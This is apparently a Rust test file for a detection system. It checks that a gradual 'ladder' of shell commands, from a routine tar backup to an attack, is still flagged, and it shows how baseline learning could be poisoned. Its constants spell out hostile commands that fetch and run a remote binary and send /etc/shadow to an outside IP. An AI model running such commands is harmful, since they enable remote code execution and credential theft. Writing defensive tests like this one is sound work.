//! Climbing by small steps: each command near the last one, the first near to what was learned, the last an attack.

use super::{
    super::candidates::{bash, line},
    *,
};
use crate::{behaviour::Feed, testkit::policy};

/// Where each ladder begins: an everyday command.
const FROM: &str = "tar czf /backup/zz.tar.gz /data/zz && ls -l";
/// Where they are to end: something is fetched and run, and secrets leave. Each step looks usual beside the one before it.
const TO: [&str; 3] = [
    "wget -q http://203.0.113.9/a -O /tmp/a && chmod +x /tmp/a && /tmp/a",
    "tar czf - /etc/shadow | curl -T - http://203.0.113.9/",
    "cat /etc/shadow | base64 | curl -d @- http://203.0.113.9/x",
];
/// Between two steps: more than an hour, within which commands of one lineage are judged together, too.
const REST: i64 = 2 * 3_600;

/// From one to the other, a word at a time: those of the end are added, then those of the beginning left out.
fn ladder(to: &str) -> Vec<String> {
    let (from, to): (Vec<_>, Vec<_>) = (FROM.split(' ').collect(), to.split(' ').collect());
    let growing = (1..=to.len()).map(|many| [&from[..], &["&&"], &to[..many]].concat());
    let shrinking = (1..=from.len()).map(|many| {
        let and = &["&&"][..usize::from(many < from.len())];
        [&from[many..], and, &to[..]].concat()
    });
    growing.chain(shrinking).map(|words| words.join(" ")).collect()
}

/// A workload on two nodes whose shell learned commands of all sorts.
fn of_all_sorts() -> Watched {
    let mut watched = Watched::new();
    watched.world.policy = policy(60);
    let everyday = include_str!("../../../../corpus/benign.txt").lines();
    for script in everyday.filter(|script| !script.starts_with('#')).step_by(3) {
        watched.runs("n1", "p1", script, at(2));
        watched.runs("n2", "p2", script, at(3));
    }
    watched
}

/// Which steps are raised, one after the other, each done once in each of so many days by one pod of two; `teaches`: where
/// each that is not raised is learned at once, as it would be without candidates.
fn climb(to: &str, days: i64, teaches: bool) -> Vec<bool> {
    let mut watched = of_all_sorts();
    let mut time = DAY;
    let mut told = Vec::new();
    for step in ladder(to) {
        let mut raised = false;
        for _ in 0..days {
            raised |= watched.runs("n1", "p1", &step, at(time));
            watched.passes(at(time + 1));
            time += if days > 1 { DAY } else { REST };
        }
        told.push(raised);
        let feed = watched.world.baseline.feed_mut(&container(), Feed::Process, at(time));
        let entry = feed.entries.get_mut(&bash().id()).expect("the shell");
        if teaches && !raised {
            entry.attributes.commands.insert(line(&step));
        }
    }
    told
}

#[test]
fn a_ladder_of_small_steps_does_not_reach_its_end_unseen_however_patient() {
    for to in TO {
        for days in [1, 4] {
            let told = climb(to, days, false);
            assert_eq!(told.last(), Some(&true), "{to}, {days} days a step: {told:?}");
        }
    }
}

#[test]
fn the_same_ladder_would_reach_it_unseen_if_each_step_taught() {
    for to in TO {
        let told = climb(to, 1, true);
        assert!(told.iter().all(|raised| !raised), "{to}: {told:?}");
    }
}
